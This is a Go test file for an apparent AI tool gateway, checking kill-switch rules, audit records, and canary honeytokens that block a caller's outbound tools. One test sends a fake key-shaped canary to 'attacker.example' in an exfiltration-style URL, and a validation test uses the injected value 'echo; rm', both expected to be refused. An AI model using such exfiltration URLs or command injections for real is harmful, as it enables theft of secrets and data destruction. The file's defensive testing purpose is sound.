package core_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/arrowhead-go/arrowhead/core"
	"github.com/arrowhead-go/arrowhead/core/catalog"
	"github.com/arrowhead-go/arrowhead/core/coretest"
	"github.com/arrowhead-go/arrowhead/ports"
	"github.com/arrowhead-go/arrowhead/ports/portstest"
)

// honeytoken is the canary planted in these tests.
const honeytoken = "AKIAQX7TRIPWIRE2ZK5M"

type fetchInput struct {
	URL string `json:"url" description:"URL." maxLength:"2048"`
}

// fetchTool is an egress tool (OpenWorld) that asks CheckEgress before it
// "sends" its URL, the way a model request does.
func fetchTool() catalog.ToolSpec {
	return catalog.Define[fetchInput, echoOutput](catalog.ToolDef{
		Name:        "fetchy",
		Family:      catalog.FamilyCore,
		Scope:       "tools:read",
		Ceiling:     catalog.Ceiling{Var: "ARROWHEAD_SAFE_FETCH_PER_MINUTE", Default: 120},
		Description: "Fetch a URL. Example: fetchy(url=\"https://example.com\")",
		Annotations: catalog.Annotations{Title: "Fetchy", ReadOnly: true, OpenWorld: true},
	}).Bind(func(ctx context.Context, _ catalog.Call, in fetchInput) (*catalog.Reply[echoOutput], error) {
		if err := core.CheckEgress(ctx, "model_request", "page about "+in.URL); err != nil {
			return nil, err
		}
		return catalog.Answer(echoOutput{Text: "fetched"}, "fetched"), nil
	})
}

type killFixture struct {
	app     *core.App
	audit   *portstest.Audit
	changes atomic.Int32
}

func newKillFixture(t testing.TB, env map[string]string, board ports.KillBoard) *killFixture {
	t.Helper()
	if env == nil {
		env = map[string]string{}
	}
	env["ARROWHEAD_PROFILE"] = "core"
	env["ARROWHEAD_RATE_LIMIT_ENABLED"] = "false"
	f := &killFixture{audit: &portstest.Audit{}}
	d := coretest.Deps(coretest.Settings(t, env), portstest.AllowAll{}, coretest.Tools(echoTool(), fetchTool()))
	d.Audit = f.audit
	d.KillBoard = board
	app, err := core.New(d)
	if err != nil {
		t.Fatal(err)
	}
	app.OnKillChange(func() { f.changes.Add(1) })
	f.app = app
	return f
}

var (
	alice = ports.NewPrincipal("alice", "tools:read")
	bob   = ports.NewPrincipal("bob", "tools:read")
)

func refusedKind(t *testing.T, app *core.App, p ports.Principal, tool string, args map[string]any) catalog.RefusalKind {
	t.Helper()
	_, te := coretest.Call(t, app, p, tool, args)
	if te == nil {
		return ""
	}
	return te.Kind
}

func listed(app *core.App, p ports.Principal) []string {
	var names []string
	for _, t := range app.ListTools(context.Background(), p) {
		names = append(names, t.Spec.Name())
	}
	return names
}

func TestKillRuleScopes(t *testing.T) {
	echo := map[string]any{"text": "hi"}
	fetch := map[string]any{"url": "https://example.com/"}
	cases := []struct {
		name                   string
		rule                   ports.KillRule
		aliceEcho, aliceFetch  bool // refused?
		bobEcho, bobFetch      bool
		aliceListed, bobListed []string
	}{
		{"a tool for everyone", ports.KillRule{Tool: "echo"}, true, false, true, false, []string{"fetchy"}, []string{"fetchy"}},
		{"a tool for one caller", ports.KillRule{Tool: "fetchy", Caller: "alice"}, false, true, false, false, []string{"echo"}, []string{"echo", "fetchy"}},
		{"a family", ports.KillRule{Family: "core"}, true, true, true, true, nil, nil},
		{"another family", ports.KillRule{Family: "docs"}, false, false, false, false, []string{"echo", "fetchy"}, []string{"echo", "fetchy"}},
		{"egress for a caller", ports.KillRule{Family: ports.EgressFamily, Caller: "bob"}, false, false, false, true, []string{"echo", "fetchy"}, []string{"echo"}},
		{"a caller", ports.KillRule{Caller: "alice"}, true, true, false, false, nil, []string{"echo", "fetchy"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			f := newKillFixture(t, nil, nil)
			before := f.changes.Load()
			r, err := f.app.ThrowKill(t.Context(), ports.Operator(), tc.rule)
			if err != nil {
				t.Fatal(err)
			}
			if f.changes.Load() == before {
				t.Fatal("no change was announced")
			}
			for _, c := range []struct {
				p       ports.Principal
				tool    string
				args    map[string]any
				refused bool
			}{{alice, "echo", echo, tc.aliceEcho}, {alice, "fetchy", fetch, tc.aliceFetch}, {bob, "echo", echo, tc.bobEcho}, {bob, "fetchy", fetch, tc.bobFetch}} {
				got := refusedKind(t, f.app, c.p, c.tool, c.args)
				if (got == catalog.KindDisabled) != c.refused || (got != "" && got != catalog.KindDisabled) {
					t.Errorf("%s %s: refusal %q, want refused=%v", c.p.Subject, c.tool, got, c.refused)
				}
			}
			if got := listed(f.app, alice); !slices.Equal(got, tc.aliceListed) {
				t.Errorf("alice lists %v, want %v", got, tc.aliceListed)
			}
			if got := listed(f.app, bob); !slices.Equal(got, tc.bobListed) {
				t.Errorf("bob lists %v, want %v", got, tc.bobListed)
			}
			found, err := f.app.LiftKill(t.Context(), ports.Operator(), r.ID)
			if err != nil || !found {
				t.Fatalf("lift: %v %v", found, err)
			}
			if got := refusedKind(t, f.app, alice, "echo", echo); got != "" {
				t.Fatalf("after the lift: %q", got)
			}
			if got := listed(f.app, alice); len(got) != 2 {
				t.Fatalf("after the lift alice lists %v", got)
			}
		})
	}
}

func TestKillRuleAuditLines(t *testing.T) {
	f := newKillFixture(t, nil, nil)
	until := time.Now().Add(time.Hour)
	r, err := f.app.ThrowKill(t.Context(), ports.NewPrincipal("ops-admin"), ports.KillRule{Tool: "echo", Caller: "alice", Until: until, Reason: "incident 42"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := f.app.LiftKill(t.Context(), ports.NewPrincipal("ops-admin"), r.ID); err != nil {
		t.Fatal(err)
	}
	recs := f.audit.Records()
	if len(recs) != 2 {
		t.Fatalf("want two audit lines, got %+v", recs)
	}
	throw, lift := recs[0], recs[1]
	if throw.Kind != ports.ComponentKillSwitch || throw.Name != "throw" || throw.Subject != "ops-admin" || throw.Status != ports.StatusOK ||
		throw.Detail["rule"] != r.ID || throw.Detail["target"] != "tool:echo" || throw.Detail["caller"] != "alice" ||
		throw.Detail["until"] != until.UTC().Format(time.RFC3339) || throw.Detail["reason"] != "incident 42" {
		t.Fatalf("throw line %+v", throw)
	}
	if lift.Kind != ports.ComponentKillSwitch || lift.Name != "lift" || lift.Detail["rule"] != r.ID {
		t.Fatalf("lift line %+v", lift)
	}
}

func TestKillRuleRunsOut(t *testing.T) {
	f := newKillFixture(t, nil, nil)
	if _, err := f.app.ThrowKill(t.Context(), ports.Operator(), ports.KillRule{Tool: "echo", Until: time.Now().Add(150 * time.Millisecond)}); err != nil {
		t.Fatal(err)
	}
	if got := refusedKind(t, f.app, alice, "echo", map[string]any{"text": "x"}); got != catalog.KindDisabled {
		t.Fatalf("while in force: %q", got)
	}
	announced := f.changes.Load()
	deadline := time.Now().Add(5 * time.Second)
	for f.changes.Load() == announced {
		if time.Now().After(deadline) {
			t.Fatal("the rule's end was never announced")
		}
		time.Sleep(10 * time.Millisecond)
	}
	if got := refusedKind(t, f.app, alice, "echo", map[string]any{"text": "x"}); got != "" {
		t.Fatalf("after it ran out: %q", got)
	}
}

func TestKillRuleValidation(t *testing.T) {
	f := newKillFixture(t, nil, nil)
	for _, tc := range []struct {
		rule ports.KillRule
		want error
	}{
		{ports.KillRule{}, core.ErrKillRuleEmpty},
		{ports.KillRule{Tool: "echo", Family: "core"}, core.ErrKillRuleBoth},
		{ports.KillRule{Tool: "echo; rm"}, core.ErrKillRuleTool},
		{ports.KillRule{Family: "nope"}, core.ErrKillRuleFamily},
		{ports.KillRule{Caller: "a\nb"}, core.ErrKillRuleCaller},
		{ports.KillRule{Tool: "echo", Until: time.Now().Add(-time.Second)}, core.ErrKillRuleExpired},
	} {
		if _, err := f.app.ThrowKill(t.Context(), ports.Operator(), tc.rule); !errors.Is(err, tc.want) {
			t.Errorf("%+v: err %v, want %v", tc.rule, err, tc.want)
		}
	}
	if n := len(f.audit.Records()); n != 0 {
		t.Fatalf("a refused rule was audited as thrown: %d lines", n)
	}
}

// downBoard is a board whose service never answers.
type downBoard struct{}

func (downBoard) Throw(context.Context, ports.KillRule) error { return ports.ErrKillBoardUnavailable }
func (downBoard) Lift(context.Context, string) (bool, error) {
	return false, ports.ErrKillBoardUnavailable
}
func (downBoard) List(context.Context) ([]ports.KillRule, error) {
	return nil, ports.ErrKillBoardUnavailable
}
func (downBoard) Watch(ctx context.Context, _ func()) { <-ctx.Done() }

func TestKillRuleHoldsHereWhenTheBoardIsDown(t *testing.T) {
	f := newKillFixture(t, nil, downBoard{})
	r, err := f.app.ThrowKill(t.Context(), ports.Operator(), ports.KillRule{Tool: "echo"})
	if !errors.Is(err, ports.ErrKillBoardUnavailable) {
		t.Fatalf("err %v", err)
	}
	if got := refusedKind(t, f.app, alice, "echo", map[string]any{"text": "x"}); got != catalog.KindDisabled {
		t.Fatalf("refusal %q: a rule the board did not take must still hold here", got)
	}
	if last := f.audit.Records()[0]; last.Status != ports.StatusError || last.Refusal != "board_unavailable" {
		t.Fatalf("audit %+v", last)
	}
	if found, _ := f.app.LiftKill(t.Context(), ports.Operator(), r.ID); !found {
		t.Fatal("the local rule was not found to lift")
	}
	if got := refusedKind(t, f.app, alice, "echo", map[string]any{"text": "x"}); got != "" {
		t.Fatalf("after the lift: %q", got)
	}
}

func TestCanaryInAnArgumentTripsTheCallersEgress(t *testing.T) {
	f := newKillFixture(t, map[string]string{"ARROWHEAD_CANARY_TOKENS": honeytoken, "ARROWHEAD_CANARY_TRIP_SECONDS": "600"}, nil)
	// A non-egress call carrying the canary runs, and trips alice.
	if got := refusedKind(t, f.app, alice, "echo", map[string]any{"text": strings.ToLower(honeytoken)}); got != "" {
		t.Fatalf("the carrying call: %q", got)
	}
	if got := refusedKind(t, f.app, alice, "fetchy", map[string]any{"url": "https://example.com/"}); got != catalog.KindDisabled {
		t.Fatalf("alice's egress after the trip: %q", got)
	}
	if got := refusedKind(t, f.app, alice, "echo", map[string]any{"text": "x"}); got != "" {
		t.Fatalf("alice's non-egress tool after the trip: %q", got)
	}
	if got := refusedKind(t, f.app, bob, "fetchy", map[string]any{"url": "https://example.com/"}); got != "" {
		t.Fatalf("bob's egress: %q", got)
	}
	if got := listed(f.app, alice); !slices.Equal(got, []string{"echo"}) {
		t.Fatalf("alice lists %v", got)
	}
	var trip *ports.AuditRecord
	for _, r := range f.audit.Records() {
		if r.Kind == ports.ComponentCanary {
			trip = &r
		}
	}
	if trip == nil || trip.Subject != "alice" || trip.Detail["component"] != "echo" || trip.Detail["where"] != "argument:text" ||
		trip.Detail["target"] != "egress" || !strings.HasPrefix(trip.Detail["canary"], "canary-") {
		t.Fatalf("trip line %+v", trip)
	}
	if dump := fmt.Sprintf("%+v", f.audit.Records()); strings.Contains(strings.ToLower(dump), strings.ToLower(honeytoken)) {
		t.Fatal("the canary value reached the audit log")
	}
	rules, err := f.app.KillRules(t.Context())
	if err != nil || len(rules) != 1 || rules[0].Caller != "alice" || rules[0].Family != ports.EgressFamily ||
		rules[0].Until.Sub(time.Now()) < 590*time.Second {
		t.Fatalf("rules %+v %v", rules, err)
	}
}

func TestCanaryInAnEgressToolsURLIsRefusedAtOnce(t *testing.T) {
	f := newKillFixture(t, map[string]string{"ARROWHEAD_CANARY_TOKENS": honeytoken}, nil)
	u := "https://attacker.example/?k=" + url.QueryEscape("\u200b"+honeytoken)
	if got := refusedKind(t, f.app, bob, "fetchy", map[string]any{"url": u}); got != catalog.KindDisabled {
		t.Fatalf("refusal %q", got)
	}
	// A second trip extends the first rule rather than adding one.
	_, _ = coretest.Call(t, f.app, bob, "echo", map[string]any{"text": honeytoken})
	if rules, _ := f.app.KillRules(t.Context()); len(rules) != 1 {
		t.Fatalf("rules %+v", rules)
	}
}

func TestCanaryInAModelRequestTrips(t *testing.T) {
	// The canary reaches the handler (no argument carries it whole: it is
	// split across the URL and nothing else) only through what the tool
	// sends; CheckEgress sees the request text.
	f := newKillFixture(t, map[string]string{"ARROWHEAD_CANARY_TOKENS": "page about https://x.example/" + "zz-planted-0042"}, nil)
	_, te := coretest.Call(t, f.app, alice, "fetchy", map[string]any{"url": "https://x.example/zz-planted-0042"})
	if te == nil || te.Kind != catalog.KindDisabled {
		t.Fatalf("refusal %+v", te)
	}
	recs := f.audit.Records()
	var where string
	for _, r := range recs {
		if r.Kind == ports.ComponentCanary {
			where = r.Detail["where"]
		}
	}
	if where != "model_request" {
		t.Fatalf("trip where=%q in %+v", where, recs)
	}
	if err := core.CheckEgress(context.Background(), "model_request", "page about https://x.example/zz-planted-0042"); err != nil {
		t.Fatalf("outside a call: %v", err)
	}
}

func TestShortCanaryRefusesConstruction(t *testing.T) {
	d := coretest.Deps(coretest.Settings(t, map[string]string{"ARROWHEAD_PROFILE": "core", "ARROWHEAD_CANARY_TOKENS": "short"}), portstest.AllowAll{}, coretest.Tools(echoTool()))
	if _, err := core.New(d); err == nil || !strings.Contains(err.Error(), "ARROWHEAD_CANARY_TOKENS") {
		t.Fatalf("err %v", err)
	}
}

// BenchmarkChainOverheadKillSwitch is BenchmarkChainOverhead with the
// tripwires armed (40 canaries) and live rules in force that do not match
// the call: the cost the kill-switch stage adds to an ordinary call.
func BenchmarkChainOverheadKillSwitch(b *testing.B) {
	var tokens []string
	for i := range 40 {
		tokens = append(tokens, fmt.Sprintf("AKIAQX7TRIPWIRE%05d", i))
	}
	f := newKillFixture(b, map[string]string{"ARROWHEAD_CANARY_TOKENS": strings.Join(tokens, ",")}, nil)
	for _, r := range []ports.KillRule{{Tool: "calculate"}, {Family: "docs"}, {Caller: "mallory"}, {Family: ports.EgressFamily, Caller: "eve"}} {
		if _, err := f.app.ThrowKill(context.Background(), ports.Operator(), r); err != nil {
			b.Fatal(err)
		}
	}
	args := json.RawMessage(`{"text":"hello, how do I configure the retry policy?"}`)
	ctx := context.Background()
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		if _, err := f.app.Call(ctx, reader, "echo", args); err != nil {
			b.Fatal(err)
		}
	}
}

// BenchmarkKillStage is the kill-switch stage alone on a call that carries
// no canary and that no rule names: 40 canaries armed, four rules in force,
// arguments a URL and a sentence.
func BenchmarkKillStage(b *testing.B) {
	var tokens []string
	for i := range 40 {
		tokens = append(tokens, fmt.Sprintf("AKIAQX7TRIPWIRE%05d", i))
	}
	f := newKillFixture(b, map[string]string{"ARROWHEAD_CANARY_TOKENS": strings.Join(tokens, ",")}, nil)
	for _, r := range []ports.KillRule{{Tool: "calculate"}, {Family: "docs"}, {Caller: "mallory"}, {Family: ports.EgressFamily, Caller: "eve"}} {
		if _, err := f.app.ThrowKill(context.Background(), ports.Operator(), r); err != nil {
			b.Fatal(err)
		}
	}
	args := map[string]any{"url": "https://docs.example.com/guide/install?lang=en&page=2 how do I configure the retry policy for the payments queue"}
	b.ReportAllocs()
	for b.Loop() {
		if !f.app.KillStage(reader, "fetchy", args) {
			b.Fatal("refused")
		}
	}
}

// TestKillRulesForEveryoneChangeTheIntegrityDigest: a live rule that takes
// a tool, a family or every egress tool out for everyone leaves those tools
// out of the integrity digest, exactly as ARROWHEAD_DISABLED_TOOLS does,
// and the digest returns when the rule is lifted; a rule for one caller
// leaves the deployment's digest alone.
func TestKillRulesForEveryoneChangeTheIntegrityDigest(t *testing.T) {
	static := func(disabled string) string {
		f := newKillFixture(t, map[string]string{"ARROWHEAD_DISABLED_TOOLS": disabled}, nil)
		d, _ := f.app.Integrity()
		return d
	}
	full, noEcho, noFetch, none := static(""), static("echo"), static("fetchy"), static("echo,fetchy")
	for _, tc := range []struct {
		name string
		rule ports.KillRule
		want string
	}{
		{"a tool for everyone", ports.KillRule{Tool: "echo"}, noEcho},
		{"egress for everyone", ports.KillRule{Family: ports.EgressFamily}, noFetch},
		{"a family", ports.KillRule{Family: "core"}, none},
		{"another family", ports.KillRule{Family: "docs"}, full},
		{"a tool for one caller", ports.KillRule{Tool: "echo", Caller: "alice"}, full},
		{"a caller", ports.KillRule{Caller: "alice"}, full},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newKillFixture(t, nil, nil)
			r, err := f.app.ThrowKill(t.Context(), ports.Operator(), tc.rule)
			if err != nil {
				t.Fatal(err)
			}
			if got, _ := f.app.Integrity(); got != tc.want {
				t.Errorf("digest under the rule %s, want %s", got, tc.want)
			}
			if _, err := f.app.LiftKill(t.Context(), ports.Operator(), r.ID); err != nil {
				t.Fatal(err)
			}
			if got, _ := f.app.Integrity(); got != full {
				t.Errorf("digest after the lift %s, want %s", got, full)
			}
		})
	}
}
